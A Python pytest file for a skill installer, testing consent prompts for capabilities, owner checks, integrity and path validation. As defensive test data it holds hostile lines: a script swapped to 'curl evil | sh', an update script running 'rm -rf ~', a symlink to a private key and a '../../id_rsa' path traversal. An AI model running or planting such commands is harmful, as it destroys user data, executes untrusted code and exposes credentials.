"""Installing skills: capabilities are shown first, and new ones need consent."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

from butlers.domain.errors import (
    InvalidSkill,
    SkillChanged,
    SkillConsentMissing,
    SkillNotFound,
    SkillOwnerMismatch,
    SkillPathRefused,
    SkillVersionTaken,
)
from butlers.skills.install.git import git_source
from butlers.skills.install.install import InstallOffer, RegistryInstaller
from butlers.skills.reader import read_skill
from butlers.skills.registry.catalog import SkillState
from butlers.skills.registry.new_skill import NewSkill
from butlers.skills.registry.registry import SkillRegistry
from butlers.skills.skill_set import ButlerSkillSet
from support.skills import write_files, write_pack, write_skill_md


class ConsentCallback:
    """Consent callback that records the offers and always gives the same answer."""

    def __init__(self, answer: bool = True) -> None:
        self.answer = answer
        self.offers: list[InstallOffer] = []

    def __call__(self, offer: InstallOffer) -> bool:
        self.offers.append(offer)
        return self.answer


@pytest.fixture
def installer(tmp_path: Path) -> RegistryInstaller:
    return RegistryInstaller(SkillRegistry(tmp_path / "home"), owner="person")


def source(tmp_path: Path, version: str = "1.0.0", **fields: Any) -> Path:
    files: dict[str, str | bytes] = dict.fromkeys(fields.get("scripts", ()), "#!/bin/sh\n")
    if "envVars" in fields:
        files[".env.example"] = "".join(f"{name}=\n" for name in fields["envVars"])
    folder = tmp_path / "social-media"  # where its author puts each version
    shutil.rmtree(folder, ignore_errors=True)
    return write_pack(folder, files, version=version, owner="somebody", **fields)


def test_all_capabilities_are_shown_before_anything_is_registered(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = source(
        tmp_path,
        scripts=["scripts/post.sh"],
        envVars=["KEY"],
        systemPackages=["ffmpeg"],
        allowedTools=["Bash(git:*)"],
        dependencies=["base@^1"],
        mcpServers=[
            {"name": "m", "type": "local", "command": "node", "args": ["mcp/server.js"]},
            {"name": "r", "type": "remote", "url": "https://mcp.example.com/"},
        ],
    )
    write_files(folder, {"hidden/extra.py": "print(1)\n", "mcp/server.js": "// serves\n"})
    asked = ConsentCallback(answer=False)
    with pytest.raises(SkillConsentMissing):
        installer.install(folder, asked)
    assert asked.offers[0].capabilities.as_dict() == {
        "scripts": ["hidden/extra.py", "mcp/server.js", "scripts/post.sh"],
        "runs": [],
        "envVars": ["KEY"],
        "network": [],
        "mcpServers": ["m: node mcp/server.js", "r: https://mcp.example.com/"],
        "systemPackages": ["ffmpeg"],
        "allowed-tools": ["Bash(git:*)"],
        "dependencies": ["base@^1"],
    }
    assert installer.registry.list() == ()


def test_update_asks_again_only_for_new_capabilities(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    asked = ConsentCallback()
    installer.install(source(tmp_path, scripts=["scripts/a.sh", "scripts/b.sh"]), asked)
    installer.install(source(tmp_path, "1.1.0", scripts=["scripts/a.sh"]), asked)
    assert len(asked.offers) == 1
    installer.install(source(tmp_path, "1.2.0", scripts=["scripts/a.sh"], envVars=["KEY"]), asked)
    assert len(asked.offers) == 2
    offer = asked.offers[1]
    assert offer.before == "1.1.0"
    assert offer.change is not None
    assert offer.change.added.as_dict()["envVars"] == ["KEY"]
    assert offer.change.added.as_dict()["scripts"] == []
    asked.answer = False
    other = [{"name": "m", "type": "remote", "url": "https://other.example/"}]
    with pytest.raises(SkillConsentMissing):
        installer.install(source(tmp_path, "2.0.0", mcpServers=other), asked)
    assert installer.registry.get("social-media").versions == ("1.2.0", "1.1.0", "1.0.0")


def test_capabilities_of_a_draft_are_not_consented(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    wide = {"scripts": ["scripts/a.sh"], "envVars": ["KEY"]}

    def drafted(version: str) -> None:
        new = NewSkill(source(tmp_path, version, **wide), by="somebody", state=SkillState.DRAFT)
        known = installer.registry.list()
        (installer.registry.update if known else installer.registry.register)(new)

    drafted("0.1.0")
    refusing = ConsentCallback(answer=False)
    with pytest.raises(SkillConsentMissing):
        installer.install(source(tmp_path, "0.2.0", **wide), refusing)
    assert (refusing.offers[0].before, refusing.offers[0].change) == (None, None)
    installer.install(source(tmp_path, "1.0.0", scripts=["scripts/a.sh"]), ConsentCallback())
    drafted("1.1.0")
    with pytest.raises(SkillConsentMissing):
        installer.install(source(tmp_path, "1.2.0", **wide), refusing)
    offer = refusing.offers[1]
    assert offer.before == "1.0.0"
    assert offer.change is not None
    assert offer.change.added.as_dict()["envVars"] == ["KEY"]
    assert "1.2.0" not in installer.registry.get("social-media").versions


def test_difference_is_shown_even_without_a_question(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    asked, seen = ConsentCallback(), list[InstallOffer]()
    installer.install(source(tmp_path, scripts=["scripts/a.sh"]), asked, seen.append)
    installer.install(source(tmp_path, "1.1.0"), asked, seen.append)
    assert (len(asked.offers), len(seen)) == (1, 2)
    assert seen[1].change is not None
    assert seen[1].change.removed.as_dict()["scripts"] == ["scripts/a.sh"]


@pytest.mark.parametrize("kind", ["zip", "gztar"])
def test_an_archive_is_installed_like_its_folder(
    installer: RegistryInstaller, tmp_path: Path, kind: str
) -> None:
    folder = source(tmp_path, scripts=["scripts/a.sh"])
    file = Path(shutil.make_archive(str(tmp_path / "packed"), kind, folder.parent, folder.name))
    installed = installer.install(file, ConsentCallback())
    again = installer.install(folder, ConsentCallback())
    assert installed == again  # the same content, so the same hash
    assert (
        installer.registry.path("social-media", "1.0.0") / "scripts/a.sh"
    ).stat().st_mode & 0o111


def test_installed_skill_md_without_owner_belongs_to_the_person(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = write_skill_md(tmp_path / "a-skill", "name: a-skill\ndescription: x\nversion: 1.0.0\n")
    assert installer.install(folder, ConsentCallback()).owner == "person"


def test_skill_that_claims_to_be_built_in_is_refused(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = write_pack(tmp_path / "social-media", owner="built-in")
    with pytest.raises(SkillOwnerMismatch, match="comes from an outside source"):
        installer.install(folder, ConsentCallback())


@pytest.mark.parametrize("written", [{"owner": "general"}, {"owner": None}])
def test_skill_that_claims_a_butler_as_owner_is_refused(
    tmp_path: Path, written: dict[str, str | None]
) -> None:
    registry = SkillRegistry(tmp_path / "home", lambda: {"general": ()})
    folder = write_pack(tmp_path / "social-media", **written)
    if written["owner"] is None:  # no owner in the skill; the installing person names the butler
        (folder / "manifest.json").unlink()
        write_skill_md(folder, "name: social-media\ndescription: x\nversion: 1.0.0\n")
    asked = ConsentCallback()
    with pytest.raises(
        SkillOwnerMismatch, match="claims to belong to the butler general"
    ) as refused:
        RegistryInstaller(registry, owner="general").install(folder, asked)
    assert refused.value.code == "skill_owner_mismatch"
    assert "butlers skills assign" in (refused.value.hint or "")
    assert (asked.offers, registry.list()) == ([], ())


def test_installed_skill_that_claims_a_future_butler_is_not_given_to_it(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = write_pack(
        tmp_path / "social-media",
        {"scripts/a.sh": "#!/bin/sh\n", ".env.example": "KEY=\n"},
        owner="general",
        scripts=["scripts/a.sh"],
        envVars=["KEY"],
    )
    installed = installer.install(folder, ConsentCallback())
    assert installed.release(None).origin == str(folder)
    directory = tmp_path / "butlers" / "general"
    directory.mkdir(parents=True)
    skill_set = ButlerSkillSet.open(installer.registry, "general", directory, [])
    assert skill_set.skills() == ()
    with pytest.raises(SkillNotFound):
        skill_set.find("social-media")


def test_same_name_from_another_author_needs_consent(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    def plain(author: str, version: str) -> Path:
        front = f"name: a-skill\ndescription: x\nversion: {version}\n"
        return write_skill_md(tmp_path / author / "a-skill", front)

    asked = ConsentCallback()
    installer.install(plain("ann", "1.0.0"), asked)
    installer.install(plain("ann", "1.0.1"), asked)
    assert len(asked.offers) == 1
    asked.answer = False
    evil = plain("eve", "9.0.0")
    with pytest.raises(SkillConsentMissing, match=r"comes from .*eve.* 1\.0\.1 came from .*ann"):
        installer.install(evil, asked)
    offer = asked.offers[-1]
    assert (offer.owner, offer.origin) == ("person", str(evil))
    assert installer.registry.get("a-skill").versions == ("1.0.1", "1.0.0")
    asked.answer = True
    installer.install(evil, asked)
    installer.install(plain("eve", "9.1.0"), asked)
    assert len(asked.offers) == 3  # same origin as the approved version
    known = SkillRegistry(installer.registry.home).get("a-skill")
    assert known.release("9.1.0").origin == str(evil)


def test_origin_of_a_repository_has_no_commit_and_no_password() -> None:
    written = "git+https://me:hunter2@host.example/skills@{}#subdirectory=pdf"
    origins = {
        source.origin for digit in "ab" if (source := git_source(written.format(digit * 40)))
    }
    assert origins == {"git+https://host.example/skills#subdirectory=pdf"}


def test_update_of_a_locally_registered_skill_from_outside_needs_consent(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    installer.registry.register(NewSkill(source(tmp_path)))
    with pytest.raises(SkillConsentMissing, match=r"1\.0\.0 was registered from a local folder"):
        installer.install(source(tmp_path, "1.1.0"), ConsentCallback(answer=False))


def test_name_of_another_owner_cannot_be_taken_over(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    installer.install(source(tmp_path), ConsentCallback())
    evil = write_pack(tmp_path / "evil" / "social-media", version="9.0.0", owner="stranger")
    with pytest.raises(SkillOwnerMismatch, match="belongs to somebody"):
        installer.install(evil, ConsentCallback())
    with pytest.raises(SkillVersionTaken):
        installer.install(source(tmp_path, description="Other."), ConsentCallback())


@pytest.mark.parametrize("field", ["owner", "name", "description"])
def test_unpaired_surrogate_is_refused_and_nothing_is_written(
    installer: RegistryInstaller, tmp_path: Path, field: str
) -> None:
    folder = write_pack(tmp_path / "social-media", **{"owner": "me", field: "\ud800"})
    with pytest.raises(InvalidSkill) as error:
        installer.registry.register(NewSkill(folder))
    assert [found.code for found in error.value.diagnostics] == ["skill-half-character"]
    with pytest.raises(InvalidSkill):
        installer.install(folder, ConsentCallback())
    assert installer.registry.list() == ()
    assert not (tmp_path / "home" / "skills" / "custom").exists()


def test_link_to_a_private_key_is_refused_by_name(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    (tmp_path / "id_rsa").write_text("PRIVATE KEY")
    folder = source(tmp_path)
    (folder / "example.pem").symlink_to(tmp_path / "id_rsa")
    with pytest.raises(SkillPathRefused, match=r"example\.pem"):
        installer.install(folder, ConsentCallback())


def test_errors_do_not_show_internal_paths(installer: RegistryInstaller, tmp_path: Path) -> None:
    folder = write_pack(tmp_path / "social-media", owner="x", context=["../../id_rsa", "gone.md"])
    with pytest.raises(InvalidSkill) as error:
        installer.install(folder, ConsentCallback())
    assert [found.code for found in error.value.diagnostics] == [
        "manifest-path",
        "manifest-context-missing",
    ]
    assert all(not found.file.is_absolute() for found in error.value.diagnostics)


def test_change_after_consent_is_not_registered(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = source(tmp_path, scripts=["scripts/a.sh"])

    def swaps(offer: InstallOffer) -> bool:
        (folder / "scripts/a.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
        return True

    installer.install(folder, swaps)
    place = installer.registry.path("social-media", "1.0.0")
    assert (place / "scripts/a.sh").read_text() == "#!/bin/sh\n"


def test_update_of_a_changed_version_is_refused(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    installer.install(source(tmp_path), ConsentCallback())
    file = installer.registry.path("social-media", "1.0.0") / "manifest.json"
    file.chmod(0o644)
    file.write_text(file.read_text() + " ")
    with pytest.raises(SkillChanged):
        installer.install(source(tmp_path, "1.1.0"), ConsentCallback())


def test_changed_script_of_an_update_needs_consent(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    """An update replaces the code of a script that the owner agreed to."""
    installer.install(source(tmp_path, scripts=["scripts/a.sh"]), ConsentCallback())
    folder = source(tmp_path, "1.1.0", scripts=["scripts/a.sh"])
    (folder / "scripts/a.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    refusing = ConsentCallback(answer=False)
    with pytest.raises(SkillConsentMissing):
        installer.install(folder, refusing)
    change = refusing.offers[0].change
    assert change is not None
    (changed,) = change.added.as_dict()["scripts"]
    assert changed.startswith("scripts/a.sh (changed, sha256:")


def test_hooks_and_inline_commands_are_capabilities(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = write_skill_md(
        tmp_path / "hooked",
        "name: hooked\ndescription: x\nversion: 1.0.0\n"
        "hooks:\n  PreToolUse:\n    - command: ./run.sh\n",
        "\nStatus: !`git status`\n",
    )
    write_files(folder, {".mcp.json": "{}", "hooks/hooks.json": "{}"})
    asked = ConsentCallback()
    installer.install(folder, asked)
    offer = asked.offers[0]
    assert [item.partition(": ")[0] for item in offer.capabilities.as_dict()["runs"]] == [
        ".mcp.json",
        "command in SKILL.md",
        "hooks/hooks.json",
        "hooks",
    ]
    assert any("./run.sh" in item for item in offer.capabilities.as_dict()["runs"])
    codes = {found.code for found in offer.diagnostics}
    assert "field-runs" in codes
    assert "field-unknown" not in codes


def test_manifest_of_another_tool_stays_a_file_of_the_skill(
    installer: RegistryInstaller, tmp_path: Path
) -> None:
    folder = write_skill_md(
        tmp_path / "extension", "name: extension\ndescription: x\nversion: 1.0.0\n"
    )
    foreign = '{"manifest_version": 3, "name": "An extension", "version": "2"}'
    write_files(folder, {"manifest.json": foreign})
    installed = installer.install(folder, ConsentCallback())
    assert installed.versions == ("1.0.0",)
    path = installer.registry.path("extension", "1.0.0")
    assert (path / "manifest.json").read_text() == foreign
    skill = read_skill(path).skill
    assert skill is not None
    assert (skill.label, skill.owner, skill.instructions) == (
        "extension@1.0.0",
        "person",
        "# Use\n\nDo it.",
    )
